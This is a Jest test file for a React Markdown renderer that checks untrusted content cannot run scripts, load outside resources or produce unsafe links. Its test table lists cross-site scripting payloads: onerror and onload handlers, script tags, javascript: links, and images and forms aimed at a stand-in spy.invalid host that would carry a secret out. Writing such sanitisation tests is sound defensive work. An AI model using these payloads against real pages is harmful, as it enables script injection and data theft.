/** @jest-environment jsdom */
import { afterEach, describe, expect, it } from '@jest/globals';
import { act, createElement } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { MarkdownText } from '../src/index.js';

Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });

let root: Root | undefined;
const element = document.body.appendChild(document.createElement('main'));
const show = (content: string) => act(() => (root ??= createRoot(element)).render(createElement(MarkdownText, { content })));
const find = <T extends Element>(selector: string) => element.querySelector<T>(selector)!;
/** Lines and paragraphs may end with a line break. */
const shownText = () => element.textContent.replaceAll(/\s+/g, ' ').trim();
afterEach(() => {
  act(() => root?.unmount());
  root = undefined;
});

describe('Markdown of others', () => {
  it.each([
    '<img src=x onerror="globalThis.hacked=1"><script>globalThis.hacked=1</script>',
    '<svg onload="globalThis.hacked=1"></svg><iframe src="https://spy.invalid"></iframe>',
    '![spy](https://spy.invalid/?q=secret)',
    '![spy](https://spy.invalid/?q="onerror="globalThis.hacked=1)',
    '[![spy](https://spy.invalid/a.png)](javascript:globalThis.hacked=1)',
    '<style>body{display:none}</style><form action="https://spy.invalid"><input></form>',
    '[a]: javascript:globalThis.hacked=1\n\n[a]',
  ])('runs nothing, and loads nothing by itself: %s', (content) => {
    show(content);
    expect(element.querySelectorAll('img, script, svg, iframe, style, form, input, video, audio, link').length).toBe(0);
    for (const link of element.querySelectorAll('a')) expect(link.getAttribute('href') ?? 'https://').toMatch(/^https?:\/\//);
    expect(globalThis).not.toHaveProperty('hacked');
  });

  it('shows HTML as the text that it is', () => {
    show('Use `<b>` or <b>bold</b>.');
    expect(shownText()).toBe('Use <b> or <b>bold</b>.');
  });

  it('has headings below those of the page, links that leave it, and what scrolls is reached with the keyboard', () => {
    show('# Title\n\n[a](https://example.com)\n\n```\ncode\n```');
    expect(find('h3').textContent).toBe('Title');
    expect([find('a').getAttribute('target'), find('a').getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer nofollow']);
    expect(find<HTMLElement>('pre').tabIndex).toBe(0);
  });

  it('grows without touching what it began with', () => {
    show('One.\n\nTwo');
    const first = find('p');
    show('One.\n\nTwo, and three.');
    expect(find('p')).toBe(first);
    expect(shownText()).toBe('One. Two, and three.');
  });
});
